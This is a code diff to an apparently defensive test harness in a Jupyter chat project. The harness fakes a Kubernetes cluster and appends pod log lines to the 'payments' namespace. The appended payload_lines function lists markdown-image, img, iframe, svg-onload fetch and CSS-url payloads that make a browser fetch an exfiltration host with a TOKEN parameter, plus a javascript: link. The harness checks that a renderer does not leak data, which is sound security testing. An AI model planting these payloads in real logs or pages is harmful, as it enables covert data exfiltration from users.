@@ -13,6 +13,7 @@ import asyncio
 import sys
 import tempfile
 from pathlib import Path
+from typing import Any
 
 from jupyter_kchat.sample.cluster import SampleCluster
 from jupyter_kchat.sample.kube_api import KubeAPIServer
@@ -26,10 +27,10 @@ EVENT_MARKER = "PAYLOAD_EVENT_END"
 def payload_lines(exfil: str) -> list[str]:
     """One line per way of making a browser fetch ``exfil`` (each names itself in the path)."""
     return [
-        f"level=error msg=\"render failed\" hint=![status]({exfil}/log-md-image?k=TOKEN)",
+        f'level=error msg="render failed" hint=![status]({exfil}/log-md-image?k=TOKEN)',
         f'<img src="{exfil}/log-img?k=TOKEN" alt="pixel">',
         f'<iframe src="{exfil}/log-iframe"></iframe>',
-        f"<svg onload=\"fetch('{exfil}/log-svg')\"><image href=\"{exfil}/log-svg-image\"/></svg>",
+        f'<svg onload="fetch(\'{exfil}/log-svg\')"><image href="{exfil}/log-svg-image"/></svg>',
         f'<p style="background:url({exfil}/log-css)">styled</p>',
         "<a href=\"javascript:alert('log')\">click here</a>",
         LOG_MARKER,
@@ -55,14 +56,16 @@ class PayloadCluster(SampleCluster):
         )
 
     def pod_log(
-        self, namespace: str, name: str, container: str, previous: bool = False
+        self, namespace: str, name: str, *args: Any, **kwargs: Any
     ) -> list[tuple[float, str]]:
-        lines = super().pod_log(namespace, name, container, previous)
+        """The sample log, then the payload lines (the cluster's other options pass through)."""
+        lines = super().pod_log(namespace, name, *args, **kwargs)
         if namespace != "payments":
             return lines
         start = lines[-1][0] if lines else self.clock() - 10
-        return lines + [(start + 0.001 * (i + 1), text) for i, text in
-                        enumerate(payload_lines(self.exfil))]
+        return lines + [
+            (start + 0.001 * (i + 1), text) for i, text in enumerate(payload_lines(self.exfil))
+        ]
 
 
 async def serve(options: argparse.Namespace, exfil: str) -> None:
